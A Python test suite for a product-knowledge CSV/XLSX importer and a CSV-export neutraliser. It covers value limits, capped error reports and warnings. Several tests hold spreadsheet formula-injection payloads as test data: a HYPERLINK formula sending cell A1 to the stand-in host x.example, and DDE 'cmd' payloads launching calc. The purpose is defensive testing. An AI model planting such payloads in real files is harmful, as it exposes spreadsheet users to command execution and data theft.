"""Knowledge-import edge cases (issue 7, section 5): values beyond the database columns are refused
with row and column, every row error is reported (up to a cap), and the import report warns about
duplicate SKUs, dropped columns, formula-like text and long names. Also the CSV-export neutraliser.

Parsing tests are pure; database, API and CLI tests run on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import pickle
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from core.accounts import create_company, create_tenant
from core.csv_safe import neutralise_cell, write_csv
from core.models import Company, KnowledgeImport, KnowledgeItem
from knowledge.importer import (
    MAX_REPORTED,
    ImportResult,
    KnowledgeImportError,
    KnowledgeWarning,
    import_knowledge,
    parse_knowledge_file,
)
from knowledge.parsed import ParsedKnowledge
from tests.test_api import AUTH, Env, import_file, make_company, make_settings, running
from tests.test_cli import Cli

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
HUGE = "99999999999999999999999.99"
Sessions = async_sessionmaker[AsyncSession]


def _parse(text: str | bytes, *, filename: str = "kb.csv", currency: str = "USD") -> ParsedKnowledge:
    data = text.encode() if isinstance(text, str) else text
    return parse_knowledge_file(data, filename=filename, currency=currency)


def _refused(text: str | bytes, *, filename: str = "kb.csv", currency: str = "USD") -> KnowledgeImportError:
    with pytest.raises(KnowledgeImportError) as caught:
        _parse(text, filename=filename, currency=currency)
    return caught.value


def _where(error: KnowledgeImportError) -> list[tuple[str | None, int | None, str | None]]:
    return [(issue.sheet, issue.row, issue.column) for issue in error.errors]


def _xlsx(sheets: dict[str, list[list[object]]]) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _shopify_edit(edits: dict[tuple[int, str], str]) -> bytes:
    """The committed Shopify-format example with cells changed: ``{(data record, column): value}``
    (record 1 is the first row under the header, spreadsheet row 2)."""
    text = (EXAMPLES / "apparel-shop.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for (record, column), value in edits.items():
        rows[record][rows[0].index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def _shopify_with(record: int, column: str, value: str) -> bytes:
    return _shopify_edit({(record, column): value})


def _sheet(cells: dict[str, str]) -> str:
    """A one-row owner sheet with these headers and values."""
    return ",".join(cells) + "\n" + ",".join(cells.values()) + "\n"


# --- values beyond the database columns ------------------------------------------------------------


def test_huge_price_is_refused_with_row_and_column_not_an_overflow() -> None:
    error = _refused(f"Name,Price\nRose,3\nLily,{HUGE}\n")
    assert (error.row, error.column) == (3, "Price")
    assert str(error) == (
        f"row 3, column 'Price': '{HUGE}' is more than the largest accepted price, 10,000,000,000.00 USD"
    )


def test_huge_price_in_a_shopify_export_names_variant_price() -> None:
    error = _refused(_shopify_with(2, "Variant Price", HUGE), filename="apparel.csv")
    assert _where(error) == [(None, 3, "Variant Price")]
    assert "more than the largest accepted price" in error.message


def test_huge_numbers_in_xlsx_cells_are_refused() -> None:
    data = _xlsx({"Products": [["Name", "Price", "Stock"], ["Rose", 1e30, 1], ["Lily", 10**25, 1],
                               ["Tulip", 3, 1e12]]})
    error = _refused(data, filename="kb.xlsx")
    assert _where(error) == [("Products", 2, "Price"), ("Products", 3, "Price"), ("Products", 4, "Stock")]


@pytest.mark.parametrize(
    ("price", "currency", "minor"),
    [("10000000000.00", "USD", 10**12), ("1000000000000", "JPY", 10**12), ("1000000000.000", "KWD", 10**12)],
)
def test_the_largest_accepted_price_is_ten_to_the_twelve_minor_units(price: str, currency: str, minor: int) -> None:
    assert _parse(f"Name,Price\nYacht,{price}\n", currency=currency).items[0].price_minor == minor
    bigger = price[:-1] + str(int(price[-1]) + 1)
    error = _refused(f"Name,Price\nYacht,{bigger}\n", currency=currency)
    assert (error.row, error.column) == (2, "Price") and "largest accepted price" in error.message


@pytest.mark.parametrize(
    ("header", "value", "fragment"),
    [
        ("Stock", "3000000000", "more than the largest accepted stock, 1,000,000,000"),
        ("Stock", "99999999999999999999999 шт", "more than the largest accepted stock"),
        ("Duration", "99999999999 min", "longer than the longest accepted duration, 527040 minutes"),
        ("Duration", "9999999 h", "longer than the longest accepted duration"),
        ("Prepay", HUGE, "more than the largest accepted price"),
    ],
)
def test_quantities_and_durations_beyond_32_bits_are_refused(header: str, value: str, fragment: str) -> None:
    error = _refused(_sheet({"Name": "Cut", "Price": "3", "Duration": "30", header: value}))
    assert (error.row, error.column) == (2, header) and fragment in error.message


def test_stock_of_all_variants_together_must_fit_the_item_column() -> None:
    sheet = "Name,Size,Price,Stock\nRose,S,3,1000000000\nRose,M,3,1000000000\nRose,L,3,1000000000\n"
    error = _refused(sheet)
    assert (error.row, error.column) == (2, "Stock")
    assert "3,000,000,000 in stock together; at most 2,147,483,647" in error.message
    assert _parse(sheet.replace("1000000000\n", "700000000\n")).items[0].stock == 2_100_000_000


@pytest.mark.parametrize(
    ("header", "length", "limit"),
    [("Name", 501, 500), ("SKU", 129, 128), ("Category", 256, 255), ("Photo", 1001, 1000)],
)
def test_text_longer_than_its_database_column_is_refused(header: str, length: int, limit: int) -> None:
    error = _refused(_sheet({"Name": "Rose", "Price": "3", header: "x" * length}))
    assert (error.row, error.column) == (2, header)
    assert f"is {length} characters long; at most {limit} are accepted" in error.message
    assert len(str(error)) < 200  # the value itself is not repeated in full


def test_long_variant_fields_are_refused_too() -> None:
    sheet = f"Name,Size,Price,Photo\nRose,S,3,https://x.example/s.jpg\nRose,M,3,{'x' * 1001}\nRose,{'L' * 256},3,\n"
    error = _refused(sheet)
    assert _where(error) == [(None, 3, "Photo"), (None, 4, "Size")]


def test_long_shopify_handle_and_variant_names_are_refused() -> None:
    error = _refused(_shopify_with(1, "Handle", "h" * 300), filename="apparel.csv")
    assert _where(error) == [(None, 2, "Handle")]
    error = _refused(_shopify_with(2, "Option1 Value", "M" * 300), filename="apparel.csv")
    assert _where(error) == [(None, 3, "Option1 Value")]


# --- every error, up to a cap ----------------------------------------------------------------------


def test_every_row_error_is_reported_in_row_order() -> None:
    sheet = (
        "Name,Price,Stock\n"
        "Rose,3,1\n"
        "Lily,abc,1\n"  # row 3
        "Tulip,3,-1\n"  # row 4
        ",,5\n"  # row 5: stock without a name
        f"Peony,{HUGE},many\n"  # row 6: two bad cells
        "Rose,4,1\n"  # row 7: repeats row 2
    )
    error = _refused(sheet)
    assert (error.row, error.column, error.message) == (3, "Price", "'abc' is not a price")
    assert [issue.row for issue in error.errors] == [3, 4, 5, 6, 6, 7]  # rows in order, cells of a row in any
    assert set(_where(error)) == {(None, 3, "Price"), (None, 4, "Stock"), (None, 5, "Name"), (None, 6, "Price"),
                                  (None, 6, "Stock"), (None, 7, "Name")}
    assert error.total == 6 and error.omitted == 0
    lines = str(error).splitlines()
    assert lines[0] == "row 3, column 'Price': 'abc' is not a price"
    assert set(lines[1:]) == {
        "row 4, column 'Stock': '-1' is a negative quantity",
        "row 5, column 'Name': name is empty",
        f"row 6, column 'Price': '{HUGE}' is more than the largest accepted price, 10,000,000,000.00 USD",
        "row 6, column 'Stock': 'many' is not a quantity (use a number, or yes/no)",
        "row 7, column 'Name': 'Rose' repeats row 2; give the rows different variants",
    }


def test_errors_of_every_sheet_and_shopify_row_are_reported() -> None:
    data = _xlsx({
        "Flowers": [["Name", "Price"], ["Rose", 2], ["Lily", "three"]],
        "Pots": [["Name", "Price", "Stock"], ["Clay pot", 5, "lots"], ["Rose", 1, None]],
        "FAQ": [["Question", "Answer"], ["Delivery?", None]],
    })
    error = _refused(data, filename="kb.xlsx")
    assert _where(error) == [("Flowers", 3, "Price"), ("Pots", 2, "Stock"), ("Pots", 3, None), ("FAQ", 2, "Answer")]
    assert "'Rose' also appears in sheet 'Flowers' row 2" in error.errors[2].message

    data = _shopify_edit({(1, "Variant Price"): "abc", (5, "Variant Price"): "-1", (7, "Handle"): ""})
    error = _refused(data, filename="apparel.csv")
    assert _where(error) == [(None, 2, "Variant Price"), (None, 6, "Variant Price"), (None, 8, "Handle")]


def test_errors_are_capped_with_a_count_of_the_rest() -> None:
    rows = "".join(f"Item {n},abc\n" for n in range(MAX_REPORTED + 70))
    error = _refused("Name,Price\n" + rows)
    assert len(error.errors) == MAX_REPORTED == 50 and error.total == 120 and error.omitted == 70
    assert [issue.row for issue in error.errors] == list(range(2, 52))
    assert str(error).splitlines()[-1] == "... and 70 more errors"
    assert len(str(error).splitlines()) == 51


def test_a_single_error_keeps_its_one_line_form() -> None:
    error = _refused("Name,Price\nRose,-3\n")
    assert str(error) == "row 2, column 'Price': '-3' is a negative price"
    assert error.errors == (error.errors[0],) and error.total == 1 and error.as_dict()["omitted"] == 0


# --- warnings -------------------------------------------------------------------------------------


def _warnings(parsed: ParsedKnowledge, kind: str) -> list[KnowledgeWarning]:
    return [w for w in parsed.warnings if w.kind == kind]


def test_duplicate_skus_are_warned_with_both_rows() -> None:
    parsed = _parse(
        "Name,Size,Price,SKU\nShirt,S,10,SH-1\nShirt,M,10,SH-2\nTee,,5,sh-1\nCap,,5,CAP\nHat,,5,CAP\nBag,,5,\nBox,,5,\n"
    )
    found = _warnings(parsed, "duplicate_sku")
    assert [(w.row, w.column) for w in found] == [(4, "SKU"), (6, "SKU")]
    assert found[0] == "row 4, column 'SKU': SKU 'sh-1' is also used in row 2"
    assert found[1] == "row 6, column 'SKU': SKU 'CAP' is also used in row 5"
    assert len(parsed.items) == 6  # imported anyway


def test_duplicate_skus_in_a_shopify_export_and_across_sheets() -> None:
    parsed = _parse(_shopify_with(2, "Variant SKU", "OBS-001"), filename="apparel.csv")
    assert [(w.row, w.column, w.message) for w in _warnings(parsed, "duplicate_sku")] == [
        (3, "Variant SKU", "SKU 'OBS-001' is also used in row 2")
    ]
    data = _xlsx({"A": [["Name", "Price", "SKU"], ["Rose", 3, "R1"]],
                  "B": [["Name", "Price", "SKU"], ["Lily", 3, "R1"]]})
    found = _warnings(_parse(data, filename="kb.xlsx"), "duplicate_sku")
    assert found == ["sheet 'B', row 2, column 'SKU': SKU 'R1' is also used in sheet 'A' row 2"]


def test_dropped_columns_are_named() -> None:
    faq = _parse("Question,Answer,Internal notes\nDelivery?,Yes,ask Bob\nPickup?,No,\n")
    assert faq.warnings == ("row 1, column 'Internal notes': unknown column; its values were not imported",)
    assert faq.warnings[0].kind == "dropped_column"
    products = _parse("Name,Price,,Material\nRose,3,secret,silk\n")
    assert products.warnings == ("row 1: column C has no header; its values were not imported",)
    assert products.items[0].attributes == {"Material": "silk"}  # an unknown header is kept, not dropped
    # an empty unknown column is not worth a warning
    assert _parse("Question,Answer,Notes\nDelivery?,Yes,\n").warnings == ()


def test_unknown_shopify_columns_are_named_known_ones_are_not() -> None:
    text = (EXAMPLES / "apparel-shop.csv").read_text(encoding="utf-8").splitlines()
    text[0] += ",Warehouse Shelf,SEO Title"
    text[1] += ",B-12,Best shirt"
    parsed = _parse("\n".join(text) + "\n", filename="apparel.csv")
    assert parsed.warnings == (
        "row 1, column 'Warehouse Shelf': not a Shopify product column; its values were not imported",
    )


@pytest.mark.parametrize("payload", ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
                                     "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"])
def test_formula_like_text_is_kept_with_a_warning(payload: str) -> None:
    sheet = io.StringIO()
    csv.writer(sheet).writerows([["Name", "Price", "Description", "Phone"], ["Rose", "3", payload, "+1 555 0100"]])
    parsed = _parse(sheet.getvalue())
    assert parsed.items[0].description == payload  # kept as text
    found = _warnings(parsed, "formula")
    assert [(w.row, w.column) for w in found] == [(2, "Description")]  # the phone number is no formula
    assert found[0].message.startswith(f"starts with {payload[0]!r}")


def test_formula_warnings_cover_names_faq_and_shopify_titles() -> None:
    parsed = _parse("Name,Price,Category\n=1+1,3,@cats\nRose,3,- misc\n")
    assert [(w.row, w.column) for w in _warnings(parsed, "formula")] == [(2, "Name"), (2, "Category"), (3, "Category")]
    faq = _parse("Question,Answer\n=cmd|x,ok\nHow?,+call us now\nPhone?,+7 (912) 345-67-89\n")
    assert [(w.row, w.column) for w in _warnings(faq, "formula")] == [(2, "Question"), (3, "Answer")]
    shop = _parse(_shopify_with(1, "Title", "=HYPERLINK(1)"), filename="apparel.csv")
    assert [(w.row, w.column) for w in _warnings(shop, "formula")] == [(2, "Title")]


def test_a_negative_price_is_an_error_not_a_formula_warning() -> None:
    error = _refused("Name,Price\nRose,-3+1\n")
    assert (error.row, error.column) == (2, "Price")


def test_long_names_warn_above_200_characters() -> None:
    name = "Rose " * 45  # 224 characters after stripping
    parsed = _parse(f"Name,Price\n{name},3\nLily,2\n")
    found = _warnings(parsed, "long_name")
    assert [(w.row, w.column) for w in found] == [(2, "Name")]
    assert "name is 224 characters long (more than 200)" in found[0]
    assert parsed.items[0].name == name.strip()  # imported as is
    assert _warnings(_parse(f"Name,Price\n{'x' * 200},3\n"), "long_name") == []


def test_warnings_are_capped() -> None:
    parsed = _parse("Name,Price\n" + "".join(f"=item{n},3\n" for n in range(80)))
    assert len(parsed.warnings) == MAX_REPORTED + 1
    assert parsed.warnings[-1] == "... and 30 more warnings" and parsed.warnings[-1].kind == "more"


def test_warnings_are_strings_with_fields() -> None:
    warning = _warnings(_parse("Name,Price\n@x,3\n"), "formula")[0]
    assert isinstance(warning, str) and json.dumps([warning]).startswith('["row 2')
    assert warning.as_dict() == {
        "kind": "formula", "message": warning.message, "row": 2, "column": "Name", "sheet": None, "text": str(warning)
    }


def test_report_and_error_survive_pickling_for_a_worker_process() -> None:
    parsed = _parse("Name,Price,SKU\n@x,3,A\nLily,3,A\n")
    again = pickle.loads(pickle.dumps(parsed))
    assert again == parsed and [w.as_dict() for w in again.warnings] == [w.as_dict() for w in parsed.warnings]
    error = _refused("Name,Price\nRose,abc\nLily,-1\n")
    copy = pickle.loads(pickle.dumps(error))
    assert (str(copy), copy.errors, copy.total, copy.row, copy.column) == (
        str(error), error.errors, 2, 2, "Price"
    )


# --- CSV export neutraliser -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Rose", "Rose"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell: str, written: str) -> None:
    assert neutralise_cell(cell) == written


def test_write_csv_neutralises_text_keeps_numbers_and_quotes_rfc4180() -> None:
    out = io.StringIO(newline="")
    count = write_csv(out, [["name", "price", "note"], ["=HYPERLINK(\"x\")", -5, 'say "hi", then\nleave'],
                            ["Rose", 3, None]])
    assert count == 3
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["name", "price", "note"], ["'=HYPERLINK(\"x\")", "-5", 'say "hi", then\nleave'], ["Rose", "3", ""]
    ]
    assert out.getvalue().splitlines()[1].startswith("\"'=HYPERLINK(\"\"x\"\")\",-5,")


# --- database, API, CLI ---------------------------------------------------------------------------


async def _company(sessionmaker: Sessions, *, slug: str = "shop") -> Company:
    async with sessionmaker() as session, session.begin():
        tenant = await create_tenant(session, name=slug.title(), slug=f"t-{slug}")
        return await create_company(session, tenant_id=tenant.id, slug=slug, name=slug.title(), currency="USD",
                                    type="product")


async def _import(sessionmaker: Sessions, company: Company, text: str) -> ImportResult:
    async with sessionmaker() as session, session.begin():
        return await import_knowledge(session, company=company, data=text.encode(), filename="kb.csv")


async def _names(sessionmaker: Sessions, company: Company) -> list[str]:
    async with sessionmaker() as session:
        stmt = select(KnowledgeItem.name).where(KnowledgeItem.company_id == company.id).order_by(KnowledgeItem.name)
        return list((await session.execute(stmt)).scalars())


@pytest.mark.parametrize(
    "bad",
    [f"Name,Price\nRose,{HUGE}\n", "Name,Price,Stock\nRose,3,3000000000\n", f"Name,Price,SKU\nRose,3,{'S' * 200}\n",
     "Name,Price\nRose,3\nLily,abc\nTulip,-1\n"],
    ids=["huge-price", "huge-stock", "long-sku", "two-errors"],
)
async def test_refused_file_imports_nothing_on_either_database(sessionmaker: Sessions, bad: str) -> None:
    company = await _company(sessionmaker)
    await _import(sessionmaker, company, "Name,Price\nPeony,3\n")
    with pytest.raises(KnowledgeImportError):  # not OverflowError / DataError
        await _import(sessionmaker, company, bad)
    assert await _names(sessionmaker, company) == ["Peony"]


async def test_largest_values_and_formula_text_are_stored_as_is(sessionmaker: Sessions) -> None:
    company = await _company(sessionmaker)
    result = await _import(
        sessionmaker, company,
        "Name,Size,Price,Stock,Description\n=cmd|x,S,10000000000.00,1000000000,@risky\n=cmd|x,M,1,1000000000,\n",
    )
    assert [w.kind for w in result.warnings] == ["formula", "formula", "formula"]
    async with sessionmaker() as session:
        item = (await session.execute(select(KnowledgeItem).where(KnowledgeItem.company_id == company.id))).scalar_one()
        assert (item.name, item.description, item.price_minor, item.stock) == ("=cmd|x", "@risky", 100, 2_000_000_000)
        assert sorted(v.price_minor for v in item.variants) == [100, 10**12]  # selectin-loaded


async def test_api_lists_every_error_and_the_warnings(database_url: str, tmp_path: Path) -> None:
    async with running(make_settings(database_url, tmp_path)) as env:
        await _api_checks(env)


async def _api_checks(env: Env) -> None:
    c = env.client
    await make_company(c, "acme", "acme-shop")
    job = await import_file(c, "acme", "acme-shop", "kb.csv", f"Name,Price,Stock\nRose,{HUGE},1\nLily,3,-1\n".encode())
    assert job["status"] == "failed", job
    first = job["errors"][0]
    assert (first["row"], first["column"]) == (2, "Price") and "largest accepted price" in first["message"]
    assert [(e["row"], e["column"]) for e in job["errors"]] == [(2, "Price"), (3, "Stock")]
    async with env.runtime.sessionmaker() as s:
        audit = (await s.execute(select(KnowledgeImport.error))).scalars().one()
        assert "row 2, column 'Price'" in audit and "row 3, column 'Stock'" in audit

    job = await import_file(c, "acme", "acme-shop", "kb.csv", b"Name,Price,SKU\n=1+1,3,A\nLily,3,A\n")
    assert job["status"] == "done", job
    assert [(w["kind"], w["row"], w["column"]) for w in job["warnings"]] == [
        ("formula", 2, "Name"), ("duplicate_sku", 3, "SKU")
    ]
    assert job["warnings"][1]["text"] == "row 3, column 'SKU': SKU 'A' is also used in row 2"
    listed = await c.get("/api/v1/tenants/acme/companies/acme-shop/knowledge-base/items", headers=AUTH)
    assert sorted(i["name"] for i in listed.json()) == ["=1+1", "Lily"]


@pytest.fixture
def cli(database_url: str, tmp_path: Path) -> Cli:
    return Cli({
        "CHATCOMMERCE_DATABASE_URL": database_url,
        "CHATCOMMERCE_DATA_DIR": str(tmp_path / "data"),
        "CHATCOMMERCE_SECRET_KEY": "test-secret-key",
        "CHATCOMMERCE_PUBLIC_BASE_URL": "http://testserver",
    })


def test_cli_prints_every_error_and_the_warnings(cli: Cli, tmp_path: Path) -> None:
    cli.json("tenants", "create", "--name", "Acme", "--slug", "acme")
    cli.json("companies", "create", "--tenant", "acme", "--slug", "acme-shop", "--name", "Acme", "--currency", "USD")
    broken = tmp_path / "broken.csv"
    broken.write_text(f"Name,Price,Stock\nRose,{HUGE},1\nLily,3,-1\n")
    result = cli.run("kb", "import", "--company", "acme-shop", str(broken), ok=False)
    assert result.exit_code == 1 and result.stdout == ""
    assert result.stderr.splitlines() == [
        "error: broken.csv: 2 errors, nothing was imported:",
        f"  row 2, column 'Price': '{HUGE}' is more than the largest accepted price, 10,000,000,000.00 USD",
        "  row 3, column 'Stock': '-1' is a negative quantity",
    ]
    as_json = cli.run("kb", "import", "--company", "acme-shop", str(broken), "--json", ok=False)
    refused = json.loads(as_json.stderr.splitlines()[0])
    assert [(e["row"], e["column"]) for e in refused["errors"]] == [(2, "Price"), (3, "Stock")]

    good = tmp_path / "good.csv"
    good.write_text("Name,Price,SKU\n=1+1,3,A\nLily,3,A\n")
    lines = cli.run("kb", "import", "--company", "acme-shop", str(good)).stdout.splitlines()
    assert lines == [
        "imported 2 items, 0 variants and 0 FAQ entries into acme-shop",
        "warning: row 2, column 'Name': starts with '=': a spreadsheet app would run it as a formula; imported as "
        "text (CSV exports neutralise it)",
        "warning: row 3, column 'SKU': SKU 'A' is also used in row 2",
    ]
    counts = cli.json("kb", "import", "--company", "acme-shop", str(good))
    assert [w["kind"] for w in counts["warnings"]] == ["formula", "duplicate_sku"]
